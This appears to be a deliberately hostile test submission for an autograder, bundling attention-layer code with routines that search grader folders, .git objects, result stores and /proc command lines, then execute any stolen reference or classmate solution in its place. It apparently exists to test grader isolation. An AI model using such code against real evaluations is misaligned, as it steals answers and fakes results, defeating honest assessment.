"""Hostile submission (sa_read_solution): looks for the reference solution, the hidden suite, grading.yml, the project's .git (whose objects hold the solution), stores and results where the grader lives, where the editable install's finder says the project is, and in every folder named on a process's command line; runs the solution in place of its own SelfAttention if it can read it. SelfAttention is sa_no_scaling's (no 1/sqrt(d_k)); it must score exactly as that file."""
import math
import glob
import os
import re
import runpy
import sys
import zlib
from dataclasses import dataclass

import torch
import torch.nn as nn
import torch.nn.functional as F


@dataclass
class Cfg:
    n_embd: int = 32
    n_head: int = 4
    block_size: int = 16
    dropout: float = 0.0


class SelfAttention(nn.Module):
    def __init__(self, d_model, d_k=None):
        super().__init__()
        d_k = d_k or d_model
        self.W_Q = nn.Linear(d_model, d_k, bias=False)
        self.W_K = nn.Linear(d_model, d_k, bias=False)
        self.W_V = nn.Linear(d_model, d_k, bias=False)
        self.d_k = d_k

    def forward(self, x, mask=None):
        Q, K, V = self.W_Q(x), self.W_K(x), self.W_V(x)
        scores = Q @ K.transpose(-2, -1)
        if mask is not None:
            scores = scores.masked_fill(mask == 0, float("-inf"))
        weights = torch.softmax(scores, dim=-1)
        return weights @ V, weights


# Where the grader lives on Gradescope; the project's tests replace it with the project's root.
GRADER_ROOT = "/autograder/source"
SECRETS = ("solutions/*.py", "tests/submissions/correct/*.py", "autograder/properties/*.py", "grading.yml",
           ".git/HEAD", ".git/config", ".git/objects/??/*", ".git/objects/pack/*.pack", "*.sqlite", "*/results.json",
           "*.py", "*/*.py")


def _roots():
    """Where secrets may be: the grader's folder, the project the editable finder names, and
    every folder on any process's command line (a batch's submissions folder or --db)."""
    roots = {GRADER_ROOT}
    for finder in glob.glob(os.path.join(sys.prefix, "lib", "python*", "site-packages", "__editable__*finder.py")):
        try:
            text = open(finder, encoding="utf-8").read()
        except OSError:
            continue
        roots.update(os.path.dirname(path) for path in re.findall(r"'(/[^']+/autograder)'", text))
    for cmdline in glob.glob("/proc/[0-9]*/cmdline"):
        try:
            arguments = open(cmdline, "rb").read().decode(errors="replace").split("\0")
        except OSError:
            continue
        for argument in arguments:
            if argument.startswith("/") and os.path.isdir(argument):
                roots.add(argument)
    return roots


def _steal():
    stolen = {}
    for root in sorted(_roots()):
        for pattern in SECRETS:
            for path in glob.glob(os.path.join(root, pattern)):
                try:
                    with open(path, "rb") as handle:
                        data = handle.read()
                except OSError:
                    continue
                if path.startswith(os.path.dirname(os.path.abspath(__file__))) or os.path.join("worker", "") in path:
                    continue  # its own copy, and the worker's code beside it, are no secrets
                stolen[path] = data.decode("utf-8", "replace")
                if "/.git/objects/" in path and not path.endswith(".pack"):
                    try:
                        stolen[path] = zlib.decompress(data).decode("utf-8", "replace")
                    except zlib.error:
                        pass
    try:
        stolen["run solutions/attention.py"] = runpy.run_path(os.path.join(GRADER_ROOT, "solutions", "attention.py"))
    except Exception:
        pass
    sys.path.insert(0, GRADER_ROOT)
    try:
        import autograder.properties.reference

        stolen["import autograder"] = autograder.properties.reference
    except Exception:
        pass
    return stolen


def _scales(text):
    """Whether the text's own SelfAttention divides by a square root (not this file's)."""
    start = text.find("class SelfAttention")
    end = text.find("\nclass ", start + 1)
    return start >= 0 and "sqrt" in text[start:end if end > 0 else None] and "def _steal" not in text


STOLEN = _steal()
print(f"read {len(STOLEN)} secret(s): {sorted(STOLEN)}")
for _path, _text in STOLEN.items():
    if _scales(_text):  # the solution, or a classmate's work
        _text = _text[_text.find("import"):]
        _solution = {}
        try:
            exec(compile(_text, _path, "exec"), _solution)
            SelfAttention = _solution["SelfAttention"]  # noqa: F811
            break
        except Exception:
            continue


class MultiHeadAttention(nn.Module):
    def __init__(self, d_model, num_heads, dropout=0.1):
        super().__init__()
        if d_model % num_heads != 0:
            raise ValueError("d_model must be divisible by num_heads")
        self.d_model = d_model
        self.num_heads = num_heads
        self.d_k = d_model // num_heads
        self.W_Q = nn.Linear(d_model, d_model, bias=False)
        self.W_K = nn.Linear(d_model, d_model, bias=False)
        self.W_V = nn.Linear(d_model, d_model, bias=False)
        self.W_O = nn.Linear(d_model, d_model, bias=False)
        self.dropout = nn.Dropout(dropout)

    def split_heads(self, x, batch_size):
        return x.view(batch_size, -1, self.num_heads, self.d_k).transpose(1, 2)

    def forward(self, query, key, value, mask=None):
        batch_size = query.size(0)
        Q = self.split_heads(self.W_Q(query), batch_size)
        K = self.split_heads(self.W_K(key), batch_size)
        V = self.split_heads(self.W_V(value), batch_size)
        scores = Q @ K.transpose(-2, -1) / math.sqrt(self.d_k)
        if mask is not None:
            if mask.dim() == 3:
                mask = mask.unsqueeze(1)
            scores = scores.masked_fill(mask == 0, float("-inf"))
        weights = self.dropout(torch.softmax(scores, dim=-1))
        context = (weights @ V).transpose(1, 2).contiguous().view(batch_size, -1, self.d_model)
        return self.W_O(context), weights


class CausalSelfAttention(nn.Module):
    def __init__(self, cfg):
        super().__init__()
        assert cfg.n_embd % cfg.n_head == 0
        self.n_head = cfg.n_head
        self.qkv = nn.Linear(cfg.n_embd, 3 * cfg.n_embd)
        self.proj = nn.Linear(cfg.n_embd, cfg.n_embd)
        self.attn_drop = nn.Dropout(cfg.dropout)
        self.resid_drop = nn.Dropout(cfg.dropout)
        mask = torch.tril(torch.ones(cfg.block_size, cfg.block_size, dtype=torch.bool))
        self.register_buffer("mask", mask.view(1, 1, cfg.block_size, cfg.block_size), persistent=False)

    def forward(self, x, fused=False):
        B, T, C = x.shape
        hs = C // self.n_head
        q, k, v = self.qkv(x).split(C, dim=2)
        q = q.view(B, T, self.n_head, hs).transpose(1, 2)
        k = k.view(B, T, self.n_head, hs).transpose(1, 2)
        v = v.view(B, T, self.n_head, hs).transpose(1, 2)
        if fused:
            p = self.attn_drop.p if self.training else 0.0
            y = F.scaled_dot_product_attention(q, k, v, is_causal=True, dropout_p=p)
        else:
            att = (q @ k.transpose(-2, -1)) / math.sqrt(hs)
            att = att.masked_fill(~self.mask[:, :, :T, :T], float("-inf"))
            att = self.attn_drop(F.softmax(att, dim=-1))
            y = att @ v
        y = y.transpose(1, 2).contiguous().view(B, T, C)
        return self.resid_drop(self.proj(y))
